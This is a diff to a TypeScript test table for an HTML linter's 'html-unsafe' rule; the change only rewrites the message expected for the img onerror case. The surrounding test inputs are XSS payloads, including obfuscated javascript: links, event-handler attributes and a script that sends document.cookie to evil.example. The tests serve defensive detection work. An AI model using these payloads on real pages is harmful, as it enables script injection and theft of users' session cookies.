@@ -67,7 +67,7 @@ const cases: Case[] = [
   { name: 'a raw <a href="javascript:">', files: { [C]: page([], '<a href="javascript:alert(1)">x</a>\n') }, expected: [['html-unsafe', C, 9]] },
   { name: 'a raw href with an entity inside the scheme', files: { [C]: page([], '<a href="jav&#x61;script:alert(1)">x</a>\n') }, expected: [['html-unsafe', C, 9]] },
   { name: 'a raw href with a leading space and a tab inside the scheme', files: { [C]: page([], '<a href=" java\tscript:alert(1)">x</a>\n') }, expected: [['html-unsafe', C, 9]] },
-  { name: 'an <img onerror>', files: { [C]: page([], '<img src=x onerror=alert(1)>\n') }, expected: [['html-unsafe', C, 9], ['link-broken', C, 9]], message: 'onError' },
+  { name: 'an <img onerror>', files: { [C]: page([], '<img src=x onerror=alert(1)>\n') }, expected: [['html-unsafe', C, 9], ['link-broken', C, 9]], message: 'the onerror attribute on <img> runs script' },
   { name: 'an <iframe>', files: { [C]: page([], '<iframe src="https://evil.example/"></iframe>\n') }, expected: [['html-unsafe', C, 9]] },
   { name: 'a <div onclick> deep inside other HTML, on a later line', files: { [C]: page([], '<details>\n<summary>More</summary>\n<p><span><div onclick="steal()">x</div></span></p>\n</details>\n') }, expected: [['html-unsafe', C, 11]] },
   { name: 'a <script> block', files: { [C]: page([], '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n') }, expected: [['html-unsafe', C, 9]] },
